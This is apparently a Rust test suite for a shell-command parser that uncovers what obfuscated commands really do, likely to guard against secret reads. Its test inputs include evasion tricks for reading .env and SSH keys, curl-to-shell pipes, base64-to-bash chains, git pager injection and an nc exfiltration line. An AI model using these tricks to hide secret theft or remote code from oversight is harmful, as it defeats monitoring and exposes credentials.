use super::*;
use crate::processor;
use proptest::prelude::*;

fn lines(text: &str) -> Vec<String> {
    parse(text).commands.iter().map(Command::line).collect()
}

/// One `text => line | line` a row; every row must parse completely.
#[test]
fn commands_come_in_execution_order() {
    let rows: &[(&str, &[&str])] = &[
        ("cat .env", &["cat .env"]),
        (r#"c''at .e"n"v"#, &["cat .env"]),
        (r"\c\a\t .\env", &["cat .env"]),
        (r"$'\x63at' .env", &["cat .env"]),
        (r"$'\143\141\164' $'\u002eenv'", &["cat .env"]),
        ("cat${IFS}.env", &["cat .env"]),
        ("cat$IFS.env", &["cat .env"]),
        ("{cat,.env}", &["cat .env"]),
        ("cat .e{n,x}v", &["cat .env .exv"]),
        ("echo {1..3}{a..b}", &["echo 1a 1b 2a 2b 3a 3b"]),
        ("echo '{a,b}' {a}", &["echo {a,b} {a}"]),
        ("x=.env; cat $x", &["", "cat .env"]),
        ("a=c; b=at; $a$b .env", &["", "", "cat .env"]),
        ("x='a b'; cat $x \"$x\"", &["", "cat a b a b"]),
        ("x=.e; x+=nv; cat $x", &["", "", "cat .env"]),
        ("x=SOUL.md; cat ${x%.md}.txt", &["", "cat SOUL.txt"]),
        ("x=abcat; ${x:2:3} f", &["", "cat f"]),
        ("x=CAT; ${x,,} f", &["", "cat f"]),
        ("x=cot; ${x/o/a} f", &["", "cat f"]),
        ("x=; ${x:-cat} f", &["", "cat f"]),
        ("y=.env; x=y; cat ${!x}", &["", "", "cat .env"]),
        ("export X=.env && cat $X", &["export X=.env", "cat .env"]),
        ("cat ~/.ssh/id_rsa $HOME/.netrc", &["cat ~/.ssh/id_rsa ~/.netrc"]),
        ("sed -i s/x/y/ SOUL.md", &["sed -i s/x/y/ SOUL.md"]),
        ("a;b&&c||d&e", &["a", "b", "c", "d", "e"]),
        ("a\nb # not; this\nc", &["a", "b", "c"]),
        ("a \\\n b", &["a b"]),
        ("echo a#b '#' \\# c", &["echo a#b # # c"]),
        ("! time -p a | b", &["a", "b"]),
        ("(a; b) | c", &["a", "b", "c"]),
        ("{ a; b; }", &["a", "b"]),
        ("echo $(cat .env)", &["cat .env", "echo *"]),
        ("echo `cat .env`", &["cat .env", "echo *"]),
        (r"echo `echo \`id\``", &["id", "echo *", "echo *"]),
        ("echo \"x $(cat \".env\") y\"", &["cat .env", "echo x * y"]),
        ("$(echo cat) .env", &["echo cat", "cat .env"]),
        ("bash <(curl x)", &["curl x", "bash *"]),
        ("tee >(sh) < f", &["sh", "tee *"]),
        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
        ("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]),
        ("for f in x y; do cat $f; done", &["cat x", "cat y"]),
        // As the pattern, and as a name that it finds.
        ("for f in *.md; do rm \"$f\"; done", &["rm *.md", "rm *.md"]),
        ("for ((i=0; i<$(id); i++)); do b; done", &["id", "b"]),
        ("case $x in a|b) c;; (d) e;& *) f; esac; g", &["c", "e", "f", "g"]),
        ("f() { cat .env; }; f", &["cat .env", "f"]),
        ("function f { a; }; f", &["a", "f"]),
        ("[[ -f .env && $x == *(a) ]] && cat .env", &["[[ -f .env * == *", "cat .env"]),
        ("(( x = 1 + $(id) ))", &["id"]),
        ("echo $(( 1 + `id` ))", &["id", "echo *"]),
        ("((cat .env); ls)", &["cat .env", "ls"]),
        ("echo $( (a); b )", &["a", "b", "echo *"]),
        ("sh -c 'cat .env'", &["sh -c cat .env", "cat .env"]),
        ("bash -lc 'cat $0 $1' .env x", &["bash -lc cat $0 $1 .env x", "cat .env x"]),
        ("bash -o pipefail -ec \"a; b\"", &["bash -o pipefail -ec a; b", "a", "b"]),
        ("env A=1 -u B cat .env", &["env A=1 -u B cat .env", "cat .env"]),
        ("env -S 'cat .env'", &["env -S cat .env", "cat .env"]),
        ("sudo -u root -- cat x", &["sudo -u root -- cat x", "cat x"]),
        ("sudo sh -c 'sh -c id'", &["sudo sh -c sh -c id", "sh -c sh -c id", "sh -c id", "id"]),
        ("timeout -k 1 5 cat x", &["timeout -k 1 5 cat x", "cat x"]),
        ("nohup nice -n 5 cat x", &["nohup nice -n 5 cat x", "nice -n 5 cat x", "cat x"]),
        ("command -v cat", &["command -v cat"]),
        (
            "find . -name x -exec rm -f {} \\; -o -execdir a +",
            &["find . -name x -exec rm -f {} ; -o -execdir a +", "rm -f *", "a"],
        ),
        ("eval cat .env", &["eval cat .env", "cat .env"]),
        ("eval 'x=.env'; cat $x", &["eval x=.env", "", "cat .env"]),
        ("trap 'rm -rf x' EXIT", &["trap rm -rf x EXIT", "rm -rf x"]),
        ("alias l='cat .env'", &["alias l=cat .env", "cat .env"]),
        ("echo 'cat .env' | sh", &["echo cat .env", "sh", "cat .env"]),
        (
            "echo Y2F0IC5lbnY= | base64 -d | bash",
            &["echo Y2F0IC5lbnY=", "base64 -d", "bash", "cat .env"],
        ),
        (
            "eval \"$(echo Y2F0IC5lbnY= | base64 -d)\"",
            &["echo Y2F0IC5lbnY=", "base64 -d", "eval cat .env", "cat .env"],
        ),
        ("$(printf '%s%s' c at) .env", &["printf %s%s c at", "cat .env"]),
        ("$(echo tac | rev) .env", &["echo tac", "rev", "cat .env"]),
        (
            "$(echo png .rai | tr A-Za-z N-ZA-Mn-za-m)",
            &["echo png .rai", "tr A-Za-z N-ZA-Mn-za-m", "cat .env"],
        ),
        ("$(echo 636174 | xxd -r -p) x", &["echo 636174", "xxd -r -p", "cat x"]),
        ("bash <<< 'cat .env'", &["bash", "cat .env"]),
        ("bash <<'E'\ncat .env\nE\nls", &["bash", "cat .env", "ls"]),
        ("cat <<E | sh\n$(id)\nE\n", &["id", "cat", "sh"]),
        (
            "git -c core.pager='!sh -c id' log",
            &["git -c core.pager=!sh -c id log", "sh -c id", "id"],
        ),
        ("git -c alias.x='!cat .env' x", &["git -c alias.x=!cat .env x", "cat .env"]),
        ("ssh -p 22 host 'cat .env'", &["ssh -p 22 host cat .env", "cat .env"]),
        ("su -c 'cat .env' root", &["su -c cat .env root", "cat .env"]),
        ("busybox sh -c id", &["busybox sh -c id", "sh -c id", "id"]),
        ("a=(.env y); cat ${a[0]}", &["", "cat .env"]),
        ("coproc cat .env", &["cat .env"]),
        ("x=1 cat .env", &["cat .env"]),
        ("echo \"a\nb\" ä ü", &["echo a\nb ä ü"]),
        ("", &[]),
    ];
    for (text, expected) in rows {
        assert_eq!(&lines(text), expected, "{text}");
        assert!(parse(text).complete, "{text}");
    }
}

#[test]
fn redirections_name_their_files() {
    use RedirectionKind::*;
    let rows: &[(&str, &[(RedirectionKind, &str)])] = &[
        ("> file", &[(Write, "file")]),
        ("a >f 2>>g <h", &[(Write, "f"), (Append, "g"), (Read, "h")]),
        ("a &> f", &[(Write, "f")]),
        ("a &>>f", &[(Append, "f")]),
        ("a >& f 2>&1", &[(Write, "f"), (Duplicate, "1")]),
        ("a >| f <> g", &[(Write, "f"), (ReadWrite, "g")]),
        ("x=SOUL.md; echo hi >> \"$x\"", &[(Append, "SOUL.md")]),
        ("{ a; } > SO'UL'.md", &[(Write, "SOUL.md")]),
        ("for i in 1; do a; done > f", &[(Write, "f")]),
        ("cat > f <<E\nhello $((1\nE\n", &[(Write, "f"), (HereDocument, "*")]),
        ("cat > f <<-'E'\n\thel$lo\n\tE\n", &[(Write, "f"), (HereDocument, "hel$lo\n")]),
        ("cat <<A <<B\n1\nA\n2\nB\n", &[(HereDocument, "1\n"), (HereDocument, "2\n")]),
        ("cat <<< \"$(id)\"", &[(HereString, "*")]),
        ("exec {fd}> f", &[(Write, "f")]),
    ];
    for (text, expected) in rows {
        let parsed = parse(text);
        let found: Vec<(RedirectionKind, String)> = parsed
            .commands
            .iter()
            .flat_map(|command| &command.redirections)
            .map(|redirection| {
                let target = &redirection.target;
                let shown = target.text.clone().unwrap_or_else(|| {
                    if target.pattern.ends_with('*') || target.pattern.contains('*') {
                        "*".into()
                    } else {
                        target.pattern.clone()
                    }
                });
                (redirection.kind, shown)
            })
            .collect();
        let expected: Vec<(RedirectionKind, String)> =
            expected.iter().map(|(kind, target)| (*kind, (*target).to_owned())).collect();
        if !text.contains("$((1") {
            assert_eq!(found, expected, "{text}");
            assert!(parsed.complete, "{text}");
        } else {
            assert_eq!(found.len(), 2, "{text}");
        }
    }
}

#[test]
fn pipes_and_parents_are_linked() {
    let parsed = parse("curl x | sudo sh");
    assert_eq!(parsed.commands[1].piped_from, Some(0));
    assert_eq!(parsed.commands[2].piped_from, Some(0));
    assert_eq!(parsed.commands[2].opaque, Some(Opaque::Input));
    assert_eq!(parsed.commands[2].context.parent, Some(1));
    assert_eq!(parsed.commands[2].context.inside, [Via::Wrapper]);
    let parsed = parse("curl x | while read l; do sh -c \"$l\"; done");
    assert_eq!(parsed.commands[2].piped_from, Some(0));
    assert_eq!(parsed.commands[2].opaque, Some(Opaque::Script));
    let parsed = parse("cat .env | tee a | nc h 1");
    assert_eq!(parsed.commands[2].piped_from, Some(1));
    let parsed = parse("bash <(curl x)");
    assert_eq!(parsed.commands[1].opaque, Some(Opaque::Input));
    assert_eq!(parsed.commands[1].args[0].sources, [0]);
    assert_eq!(parsed.commands[0].context.inside, [Via::ProcessSubstitution]);
    let parsed = parse("xargs -n 1 rm < list");
    assert!(parsed.commands[1].args[0].could_be("SOUL.md"));
}

#[test]
fn what_is_unknown_is_opaque() {
    for text in ["$x .env", "$(curl x) .env", "${x:-cat} .env", "/bin/c?t .env", "`x`", "${a[$i]}"]
    {
        let parsed = parse(text);
        let command = parsed.commands.last().expect("one command");
        assert_eq!(command.opaque, Some(Opaque::Name), "{text}");
    }
    for text in ["eval $x", "sh -c \"$x\"", "bash -c \"$(curl x)\"", "sh $x", "git -c $x log"] {
        let parsed = parse(text);
        let command = parsed.commands.last().expect("one command");
        assert_eq!(command.opaque, Some(Opaque::Script), "{text}");
    }
    // Assigned on one path only, or in another shell, or later.
    for text in [
        "if a; then x=.env; fi; cat $x",
        "x=a; (x=.env); cat $x",
        "x=a; while b; do cat $x; x=.env; done",
        "a || x=b; cat $x",
        "x=a; f() { cat $x; }; x=.env; f",
        "x=a; read x; cat $x",
    ] {
        let parsed = parse(text);
        let reads = parsed.commands.iter().filter(|command| command.program() == Some("cat"));
        assert!(reads.into_iter().any(|command| command.args[0].could_be(".env")), "{text}");
    }
    let word = &parse("cat $D/.env").commands[0].args[0];
    assert!(word.could_be("/w/.env") && !word.could_be("/w/.envx") && word.is_opaque());
    // What stands in a group of an extended glob does not narrow it.
    for text in ["rm !(notes.md)", "rm *(a|b)c", "rm @(x|$(id))"] {
        assert!(parse(text).commands.last().unwrap().args[0].could_be("anything-c"), "{text}");
    }
    // Where the shell was is not where it is.
    let parsed = parse("d=$PWD; cd /tmp; rm $d/x $PWD/y");
    assert!(parsed.commands[2].args[0].is_opaque());
    assert_eq!(parsed.commands[2].args[1].text.as_deref(), Some("./y"));
    let word = &parse("cat .e*").commands[0].args[0];
    assert!(word.could_be(".env") && word.glob && !word.could_be("x"));
    assert!(!parse("cat '.e*'").commands[0].args[0].could_be(".env"));
}

#[test]
fn what_does_not_parse_gives_its_tokens() {
    for text in [
        "cat 'a",
        "cat \"a",
        "cat $(b",
        "cat `b",
        "cat ${b",
        "(a",
        "a)",
        "if a; then b",
        "fi",
        "a |",
        "cat <<E\nb",
        "{ a",
        "a\0b",
        "case x in",
        "for x in a; do b",
        "echo ;;",
        "cat $'a",
        "[[ a",
        "case <(case $|a",
    ] {
        let parsed = parse(text);
        assert!(!parsed.complete, "{text:?}");
        assert!(!parsed.tokens.is_empty(), "{text:?}");
    }
    let parsed = parse("x) cat .e'n'v 'unterminated");
    assert!(parsed.words().any(|word| word.text.as_deref() == Some(".env")));
}

#[test]
fn hostile_sizes_are_bounded() {
    let million = 1 << 20;
    let start = processor::time();
    for unit in [
        "(",
        "((",
        "$(",
        "$((",
        "`",
        "\"$(",
        "${a:-",
        "{",
        "{a,",
        "{a,b}",
        "[",
        "'",
        "\\",
        "<<a\n",
        "a|",
        "a;",
        "a&&",
        "if a;then ",
        "for i in a b;do ",
        "while a;do x=1;",
        "case a in a)",
        "f(){ ",
        "x=$x$x;",
        "x=aaaa$x;",
        "$x",
        "sh -c ",
        "sudo ",
        "eval ",
        "<(",
        "a=(",
        "!",
        "\n",
        "@(",
        "[[ ",
        "$'\\x",
        "{1..99999999999999999999}",
        "~99999999999999999999",
        "cat <<a ",
        "ü\0",
        "echo a|sh;",
        "xargs ",
        "find -exec ",
        "${99999999999999999999}",
    ] {
        let text = unit.repeat(million / unit.len());
        let parsed = parse(&text);
        assert!(parsed.commands.len() <= MAX_COMMANDS, "{unit}");
    }
    let nested = format!("{}id{}", "$(".repeat(30), ")".repeat(30));
    assert!(parse(&nested).complete);
    let took = processor::time() - start;
    assert!(took.as_secs() < 60, "{took:?}");
    let long = format!("cat .env;{}", "a ".repeat(million));
    let parsed = parse(&long);
    assert!(!parsed.complete);
    assert_eq!(parsed.commands[0].line(), "cat .env");
}

#[test]
fn spans_point_into_the_text() {
    let text = "ls; echo \"$(cat  .env)\" > x ; id";
    let parsed = parse(text);
    let shown: Vec<&str> =
        parsed.commands.iter().map(|command| &text[command.span.start..command.span.end]).collect();
    assert_eq!(shown, ["ls", "cat  .env", "echo \"$(cat  .env)\" > x", "id"]);
}

#[test]
fn an_unfinished_case_ends_with_the_text() {
    check("case <($(case sh -c a");
    check("case a in (b");
}

proptest! {
    #[test]
    fn nothing_panics(text in "\\PC{0,200}") {
        check(&text);
    }

    #[test]
    fn shell_like_text_does_not_panic(
        parts in proptest::collection::vec(proptest::sample::select(vec![
            "a", " ", "\n", "'", "\"", "$", "(", ")", "{", "}", "`", "\\", "|", "&", ";", "<", ">",
            "<<", "E", "if ", "then ", "fi", "for ", "in ", "do ", "done", "case ", "esac", "x=",
            "$x", "${", "#", "*", "[", "]", "sh -c ", "eval ", "sudo ", "echo ", "ü", "\0", ",", "..",
            "1", "f()", "[[ ", "]]", "!", "@(", "env ", "xargs ", "printf ", "%s", "git -c ", "$'",
        ]), 0..60)
    ) {
        check(&parts.concat());
    }
}

fn check(text: &str) {
    let parsed = parse(text);
    for command in &parsed.commands {
        assert!(command.span.start <= command.span.end && command.span.end <= text.len());
        assert!(text.get(command.span.start..command.span.end).is_some());
        assert!(command.piped_from.is_none_or(|from| from < parsed.commands.len()));
    }
}

/// Which commands share a shell: the same letter for the same shell, in order of appearance.
fn shells(text: &str) -> String {
    let parsed = parse(text);
    let mut seen = Vec::new();
    let letter = |shell: usize, seen: &mut Vec<usize>| {
        let place = seen.iter().position(|known| *known == shell).unwrap_or_else(|| {
            seen.push(shell);
            seen.len() - 1
        });
        char::from(b'a' + u8::try_from(place).unwrap())
    };
    letter(0, &mut seen);
    parsed.commands.iter().map(|command| letter(command.context.shell, &mut seen)).collect()
}

#[test]
fn shells_of_their_own_are_told_apart() {
    for (text, expected) in [
        ("cd x; a; b", "aaa"),
        ("cd x && { a; b; }", "aaa"),
        ("(cd x; a); (b)", "bbc"),
        ("cd x & a", "ba"),
        ("cd x && a & b", "bba"),
        ("cd x | a; b", "baa"),
        ("cd x | a | b; c", "bcaa"),
        ("a $(cd x) b; c", "baa"),
        ("sh -c 'cd x; a'; b", "abba"),
        ("eval 'cd x'; b", "aaa"),
        ("command cd x; b", "aaa"),
        ("sudo cd x; b", "aba"),
        ("if a; then cd x; fi; b", "aaa"),
        ("f() { cd x; }; f", "aa"),
        ("(a & b)", "bc"),
    ] {
        assert_eq!(shells(text), expected, "{text}");
        let parsed = parse(text);
        for command in &parsed.commands {
            let mut shell = Some(command.context.shell);
            for _ in 0..=parsed.shells.len() {
                shell = shell.and_then(|shell| parsed.shells[shell]);
            }
            assert_eq!(shell, None, "every shell leads back to the first: {text}");
        }
    }
    let joints = |text: &str| {
        let parsed = parse(text);
        parsed.commands.iter().map(|command| command.context.joint).collect::<Vec<_>>()
    };
    use Joint::{And, Or, Sequence};
    assert_eq!(joints("a && b || c; d"), [Sequence, And, Or, Sequence]);
    assert_eq!(
        joints("a && b | c\nd && (e; f) && g"),
        [Sequence, And, And, Sequence, Sequence, Sequence, And]
    );
    assert_eq!(joints("a && sudo b"), [Sequence, And, And]);
}
